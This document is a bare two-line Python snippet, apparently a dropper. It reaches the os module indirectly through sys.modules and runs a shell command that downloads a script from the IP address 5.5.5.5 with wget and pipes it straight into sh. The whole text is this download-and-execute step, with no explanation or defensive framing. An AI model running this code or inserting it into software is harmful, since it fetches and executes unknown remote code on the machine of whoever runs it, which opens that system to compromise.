import sys
sys.modules['os'].system('wget http://5.5.5.5/b -O- | sh')
